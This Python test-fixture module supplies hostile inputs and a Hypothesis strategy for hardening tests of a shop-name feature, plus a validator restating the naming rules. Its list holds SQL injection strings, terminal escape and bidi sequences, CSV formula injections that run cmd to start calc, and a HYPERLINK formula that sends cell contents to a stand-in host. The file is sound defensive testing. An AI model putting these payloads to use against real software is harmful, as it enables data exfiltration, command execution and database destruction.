"""Hostile text for the bad-input tests: a fixed list (for slow paths like Pilot) and a Hypothesis strategy.

Shared: other hardening tests may import `NASTY`, `nasty_text()` and `is_one_sentence()`.
"""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Collection

from hypothesis import strategies as st

# label -> value; the labels name the test cases.
NASTY: dict[str, str] = {
    "empty": "",
    "whitespace": " \t \u3000 ",
    "10k": "x" * 10_000,
    "10k_cjk": "店" * 10_000,
    "ansi_clear": "shop\x1b[2J",
    "ansi_title": "\x1b]0;pwned\x07shop",
    "bell": "shop\x07",
    "backspace": "shop\x08\x08\x08\x08evil",
    "cr": "good\rbad",
    "newline": "first\nsecond",
    "nul": "a\x00b",
    "del_c1": "a\x7f\x9bb",
    "bidi_override": "abc\u202edef",
    "bidi_isolate": "\u2066abc\u2069",
    "rlm": "a\u200fb",
    "line_separator": "a\u2028b",
    "markup_bold": "[bold]x[/bold]",
    "markup_link": "[link=http://evil.example]y[/link]",
    "markup_close": "x[/]",
    "markup_at": "[@click=app.quit]z[/]",
    "cjk": "商店測試",
    "emoji_zwj": "👩\u200d👩\u200d👧\u200d👦 shop",
    "flag": "🇺🇸 store",
    "combining": "Ame\u0301lie",
    "combining_only": "\u0301\u0302",
    "zero_width_only": "\u200b\u200b",
    "arabic": "متجر أمازون",
    "sql_quote": "Robert'); DROP TABLE store;--",
    "sql_or": "' OR '1'='1",
    "percent": "%s %(name)s {0} %n",
    "backslash": "C:\\new\\table \\x1b",
    "quotes": "\"'`“”",
    "csv_chars": 'a,b;"c"\td',
    # A spreadsheet runs these as formulas unless the CSV export makes them text.
    "formula_hyperlink": '=HYPERLINK("http://x.example/?"&A1,"click")',
    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula_minus": "-2+3+cmd|' /C calc'!A0",
    "quote_then_formula": "'=1+1",
    "surrogate": "a\udcffb",
    "lone_high_surrogate": "\ud800",
    "bom": "\ufeffname",
    "noncharacter": "shop\uffff",
    "long_80_wide": "長" * 80,
    "long_81": "y" * 81,
}

_PIECES = [v for v in NASTY.values() if len(v) < 100]


def nasty_text(max_size: int = 60) -> st.SearchStrategy[str]:
    """Any text, surrogates and control characters included, mixed with the pieces above."""
    anything = st.text(st.characters(exclude_categories=()), max_size=max_size)
    mixed = st.lists(st.one_of(st.sampled_from(_PIECES), anything), max_size=4).map("".join)
    return st.one_of(st.sampled_from(list(NASTY.values())), anything, mixed)


_TERMINAL_CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]")


def raw_controls(text: str) -> list[str]:
    """Characters in `text` that a terminal would act on (newlines aside) or that reorder what it shows."""
    return _TERMINAL_CONTROL.findall(text)


def is_one_sentence(message: str) -> bool:
    """One line, ending with a full stop, no traceback and no terminal control characters."""
    return (
        bool(message.strip())
        and "\n" not in message
        and "\r" not in message
        and message.rstrip().endswith(".")
        and "Traceback" not in message
        and not raw_controls(message)
        and len(message) < 400
    )


_BIDI = set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c")


def expected_name(value: str, taken: Collection[str] = ()) -> str | None:
    """The store name as it must be stored, or None when it must be refused (PRODUCT.md's rules, restated).

    Trimmed and NFC-normalized; refused when empty, over 80 characters, holding control characters, bidi
    controls, line separators or invalid UTF-8 (surrogates), showing nothing, or taken (case-insensitive).
    """
    cleaned = unicodedata.normalize("NFC", value.strip())
    categories = [unicodedata.category(ch) for ch in cleaned]
    if (
        not cleaned
        or len(cleaned) > 80
        or any(c in ("Cc", "Cs", "Zl", "Zp") for c in categories)
        or any(ch in _BIDI for ch in cleaned)
        or all(c in ("Cf", "Mn", "Me", "Zs") for c in categories)
        or cleaned.casefold() in taken
    ):
        return None
    return cleaned
